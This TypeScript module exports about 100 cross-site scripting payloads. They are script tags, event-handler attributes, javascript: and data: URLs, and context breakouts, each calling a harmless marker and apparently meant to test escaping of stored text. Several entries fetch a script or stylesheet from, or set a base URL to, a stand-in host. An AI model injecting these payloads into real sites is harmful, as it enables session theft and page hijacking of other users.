/** The call that reports the execution of a payload. */
const MARK = 'window.stolen()';

const scripts = [
  ...['', '">', "'>", '-->', ']]>'].map((ending) => `${ending}<script>${MARK}</script>`),
  ...'script title textarea style noscript'.split(' ').map((tag) => `</${tag}><script>${MARK}</script>`),
  `<ScRiPt>${MARK}</sCrIpT>`,
  `<!--<script>${MARK}</script>-->`,
  `<script/x>${MARK}</script>`,
  `<script\n>${MARK}</script\n>`,
  `<script src="data:text/javascript,${MARK}"></script>`,
  `<script src=//evil.test/x.js></script>`,
  `<script type=module>${MARK}</script>`,
  `<<script>${MARK}//<</script>`,
  `\\u003cscript\\u003e${MARK}\\u003c/script\\u003e`,
  `&lt;script&gt;${MARK}&lt;/script&gt;`,
];

const tags = 'img src=x, svg, body, video src=x, audio src=x, iframe, object data=x, input autofocus'.split(
  ', ',
);
const events = ['onerror', 'onload', 'onfocus', 'onpointerenter', 'onanimationstart'];
const handlers = tags.flatMap((tag, n) =>
  events.map((event, m) => {
    const quote = ['', '"', "'", '`'][(n + m) % 4];
    return `<${tag} ${event}=${quote}${MARK}${quote}>`;
  }),
);

const schemes =
  'javascript:|JaVaScRiPt:|java\tscript:| javascript:|\u0001javascript:|javascript&colon;|vbscript:';

const urls = [
  ...schemes.split('|').map((scheme) => scheme + MARK),
  `data:text/html,<script>${MARK}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${MARK}</script>`).toString('base64')}`,
  `<a href="javascript:${MARK}" autofocus>x</a>`,
  `<form action="javascript:${MARK}"><button>x</button></form>`,
  `<iframe src="javascript:${MARK}"></iframe>`,
  `<iframe srcdoc="<script>${MARK}</script>"></iframe>`,
  `<base href="https://evil.test/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${MARK}">`,
  `<link rel=stylesheet href=https://evil.test/x.css>`,
  `<object data="data:text/html,<script>${MARK}</script>"></object>`,
  `<embed src="javascript:${MARK}">`,
  `<math><a xlink:href="javascript:${MARK}">x</a></math>`,
  `<svg><script>${MARK}</script></svg>`,
];

const breakouts = [
  `" onmouseover="${MARK}`,
  `' onfocus='${MARK}' autofocus='`,
  `\` onload=${MARK} \``,
  `";${MARK};//`,
  `';${MARK};//`,
  `\\";${MARK};//`,
  `\u2028${MARK}\u2029`,
  `\${${MARK}}`,
  `{{constructor.constructor("${MARK}")()}}`,
  `{"__html":"<img src=x onerror=${MARK}>"}`,
  `{"type":"script","props":{"children":"${MARK}"}}`,
  `<%= ${MARK} %>`,
  `<style>*{background:url(https://evil.test/)}</style>`,
  `<style onload=${MARK}></style>`,
  `<details open ontoggle=${MARK}>`,
  `<marquee onstart=${MARK}>`,
  `<template><script>${MARK}</script></template>`,
  `<plaintext><script>${MARK}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `\u202e<script>${MARK}</script>`,
];

/** 100 texts that run as script in pages which do not escape stored text. */
export const PAYLOADS: readonly string[] = [...scripts, ...handlers, ...urls, ...breakouts];
